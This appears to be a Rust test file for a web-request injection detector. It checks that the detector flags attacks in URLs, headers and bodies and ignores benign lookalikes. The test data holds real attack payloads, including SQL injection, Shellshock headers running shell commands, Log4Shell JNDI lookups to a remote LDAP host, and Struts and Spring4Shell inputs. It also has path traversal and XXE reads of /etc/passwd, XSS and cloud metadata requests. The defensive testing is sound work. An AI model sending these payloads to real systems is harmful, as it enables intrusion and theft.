//! The same bytes are an attack in one place and nothing in another.

use weir_l7::Buffer;
use weir_threat::injection::{Piece, Place, Source};
use weir_threat::{Found, Threat};

use crate::{Bench, has};

impl Bench {
    fn target(&mut self, target: &str) -> Found {
        let mut found = Found::new();
        self.injection
            .look_request_target(&self.config, target.as_bytes(), &mut found);
        found
    }

    fn header(&mut self, line: &str) -> Found {
        let mut found = Found::new();
        self.injection
            .look_header(&self.config, line.as_bytes(), &mut found);
        found
    }

    pub(crate) fn body(&mut self, media_type: &str, body: &[u8]) -> Found {
        let mut found = Found::new();
        let piece = Piece {
            source: Source {
                connection: 1,
                stream: 0,
                buffer: Buffer::HttpRequestBody,
            },
            begins: Some(media_type.as_bytes()),
            bytes: body,
            ends: true,
        };
        self.injection.content(&self.config, &piece, &mut found);
        found
    }
}

#[test]
fn targets() {
    let mut bench = Bench::new();
    let cases = [
        ("/item?id=1%20or%201=1", Threat::SqlInjection),
        ("/item?id=1+or+1%3D1&x=y", Threat::SqlInjection),
        ("/item/1'%20or%20'1'='1", Threat::SqlInjection),
        ("/ping?host=127.0.0.1%3Bid", Threat::CommandInjection),
        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", Threat::PathTraversal),
        ("/a/../../b", Threat::PathTraversal),
        ("/..%c0%af..%c0%afetc/passwd", Threat::PathTraversal),
        ("/a/..;/manager/html", Threat::PathTraversal),
        ("http://example.org/../../x", Threat::PathTraversal),
        ("/icons/.%%32%65/.%%32%65/x", Threat::PathTraversal),
        ("/get?file=../../../../etc/passwd", Threat::PathTraversal),
        ("/get?../../../../etc/passwd", Threat::PathTraversal),
        (
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            Threat::CrossSiteScripting,
        ),
        ("/%3Csvg/onload=alert(1)%3E", Threat::CrossSiteScripting),
        (
            "/fetch?url=http://169.254.169.254/latest/",
            Threat::MetadataForgery,
        ),
        ("/$%7Bjndi:ldap://10.0.0.1/a%7D", Threat::Log4Shell),
        (
            "/x.action?redirect:$%7B%23context%5B'xwork.MethodAccessor.denyMethodExecution'%5D=false%7D",
            Threat::Struts,
        ),
        (
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            Threat::Spring4Shell,
        ),
        (
            "/?class%5B'module'%5D%5B'classLoader'%5D%5B'x'%5D=1",
            Threat::Spring4Shell,
        ),
        ("/?%63lass.module.classLoader.x=1", Threat::Spring4Shell),
        (
            "/?class.classLoader.URLs%5B0%5D=jar:x",
            Threat::Spring4Shell,
        ),
    ];
    for (target, threat) in cases {
        assert!(has(&bench.target(target), threat), "{target}");
    }
}

#[test]
fn harmless_targets() {
    let mut bench = Bench::new();
    for target in [
        "/",
        "*",
        "/index.html",
        "/a/../b/./c",
        "/a%20b/c%27d",
        "/wiki/Union_(set_theory)",
        "/wiki/C%2B%2B",
        "/O'Reilly/books",
        "/search?q=rock+%26+roll+or+jazz",
        "/search?q=select+a+table&sort=name;type",
        "/a;jsessionid=5/b?x=1",
        "/api/v1/namespaces/default/pods?labelSelector=app%3Dx%2Ctier%20in%20(a,b)",
        "/x?next=/home&back=../list",
        "/x?url=https://example.org/a?b=c",
        "/odata/Items(5)?$filter=name%20eq%20'x'%20or%20price%20gt%205",
        "/form?class=5&module=x&class.name=y",
        "http://example.org/a/b",
        "example.org:443",
        "/%E2%82%AC/%C3%BC",
        "/a...b/..c/d..",
    ] {
        assert_eq!(bench.target(target).iter().next(), None, "{target}");
    }
}

#[test]
fn headers() {
    let mut bench = Bench::new();
    let cases = [
        (
            "User-Agent: () { :;}; /bin/bash -c 'id'",
            Threat::Shellshock,
        ),
        ("Referer:(){:;};echo x", Threat::Shellshock),
        ("Cookie: a=() { :; }; id", Threat::Shellshock),
        (
            "X-Api-Version: ${jndi:ldap://10.0.0.1/a}",
            Threat::Log4Shell,
        ),
        ("Accept: ${${::-j}ndi:rmi://10.0.0.1/a}", Threat::Log4Shell),
        ("User-Agent: x' or 1=1-- ", Threat::SqlInjection),
        (
            "X-Forwarded-For: 1.2.3.4' and sleep(5)-- ",
            Threat::SqlInjection,
        ),
        ("Cookie: id=5; user=x' or '1'='1", Threat::SqlInjection),
        (
            "Referer: http://example.org/?q=' or 1=1-- ",
            Threat::SqlInjection,
        ),
        (
            "Authorization: Basic YWRtaW4nIG9yIDE9MS0tIDp4",
            Threat::SqlInjection,
        ),
        (
            "Content-Type: %{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            Threat::Struts,
        ),
        ("Content-Type: ${7*7}", Threat::Struts),
        (
            "Content-Disposition: form-data; name=\"f\"; filename=\"../../../../x.jsp\"",
            Threat::PathTraversal,
        ),
        (
            "User-Agent: <script>alert(1)</script>",
            Threat::CrossSiteScripting,
        ),
        (
            "X-Forwarded-For: 127.0.0.1; cat /etc/passwd",
            Threat::CommandInjection,
        ),
    ];
    for (line, threat) in cases {
        assert!(has(&bench.header(line), threat), "{line}");
    }
}

#[test]
fn harmless_headers() {
    let mut bench = Bench::new();
    for line in [
        "Host: example.org:8080",
        "Host: 169.254.169.254",
        "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "Accept-Language: en-GB,en;q=0.5",
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "User-Agent: Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1 Safari/1",
        "If-None-Match: W/\"5d41402abc4b2a76\", \"x--y\"",
        "Cookie: a=b; c=\"d or e\"; note=it's; PHPSESSID=0123456789abcdef",
        "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "Content-Disposition: attachment; filename=\"it's 5 or 6.txt\"",
        "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI1In0.c2ln",
        "Authorization: Basic dXNlcjpwYXNz",
        "Sec-CH-UA: \"Chromium\";v=\"1\", \"Not=A?Brand\";v=\"24\"",
        "Forwarded: for=192.0.2.60;proto=http;by=203.0.113.43",
        "Via: 1.1 vegur, 1.0 fred (Apache/1.1)",
        "Referer: https://example.org/a?q=rock%20'n'%20roll&id=5",
        "SOAPAction: \"urn:x#Select\"",
        "Content-Security-Policy: default-src 'self'; script-src 'unsafe-inline'",
        "Range: bytes=0-99,200-",
        "X-Request-Id: 5f0c--union--select",
        "Date: Tue, 15 Nov 1994 08:12:31 GMT",
    ] {
        assert_eq!(bench.header(line).iter().next(), None, "{line}");
    }
}

#[test]
fn bodies() {
    let mut bench = Bench::new();
    let form = "application/x-www-form-urlencoded";
    let cases: [(&str, &str, Threat); 13] = [
        (form, "user=x&pass=%27+or+1%3D1--+", Threat::SqlInjection),
        (
            form,
            "a=b&class.module.classLoader.x=1",
            Threat::Spring4Shell,
        ),
        (
            "application/json",
            r#"{"a":"b","user":"x' or '1'='1"}"#,
            Threat::SqlInjection,
        ),
        (
            "application/json",
            r#"{"user":"x\u0027 or \u00271\u0027=\u00271"}"#,
            Threat::SqlInjection,
        ),
        (
            "application/json",
            r#"{"a":["127.0.0.1;cat /etc/passwd"]}"#,
            Threat::CommandInjection,
        ),
        (
            "application/json",
            r#"{"url":"http://169.254.169.254/latest"}"#,
            Threat::MetadataForgery,
        ),
        (
            "application/json",
            r#"{"${jndi:ldap://10.0.0.1/a}":1}"#,
            Threat::Log4Shell,
        ),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1 or 1=1\r\n--x--\r\n",
            Threat::SqlInjection,
        ),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X','1')}\"\r\n\r\nx\r\n--x--\r\n",
            Threat::Struts,
        ),
        (
            "application/xml",
            "<map><entry><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>",
            Threat::Struts,
        ),
        (
            "text/xml",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            Threat::PathTraversal,
        ),
        ("text/plain", "id=1 or 1=1", Threat::SqlInjection),
        ("", "x=${jndi:ldap://10.0.0.1/a}", Threat::Log4Shell),
    ];
    for (media_type, body, threat) in cases {
        assert!(
            has(&bench.body(media_type, body.as_bytes()), threat),
            "{body}"
        );
    }
}

#[test]
fn harmless_bodies() {
    let mut bench = Bench::new();
    for (media_type, body) in [
        (
            "application/json",
            r#"{"query":"{ users(where: \"a or b\") { id } }","variables":{"x":"1 or 2"}}"#,
        ),
        (
            "application/json",
            r#"{"size":5,"query":{"match":{"title":"select a union"}},"sort":[{"a":"desc"}]}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "name=O%27Brien&note=first%3B+second+--+third&a=b%26c",
        ),
        (
            "text/xml",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><a>it's</a></soap:Body></soap:Envelope>",
        ),
        ("image/png", "' or 1=1-- ;cat /etc/passwd"),
        (
            "multipart/form-data; boundary=x",
            "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"it's 5.png\"\r\nContent-Type: image/png\r\n\r\n' or 1=1--\r\n--x--\r\n",
        ),
        (
            "text/plain",
            "We use java.lang.ProcessBuilder and java.lang.Runtime in the server.",
        ),
    ] {
        assert_eq!(
            bench.body(media_type, body.as_bytes()).iter().next(),
            None,
            "{body}"
        );
    }
}

#[test]
fn a_function_is_harmless_where_no_shell_reads_it() {
    let mut bench = Bench::new();
    assert!(!bench.finds(Threat::Shellshock, Place::Parameter, b"() { return 1; }"));
    assert!(bench.finds(Threat::Shellshock, Place::Parameter, b"() { :;}; id"));
    assert!(bench.finds(Threat::Shellshock, Place::Header, b"() { ignored;"));
}
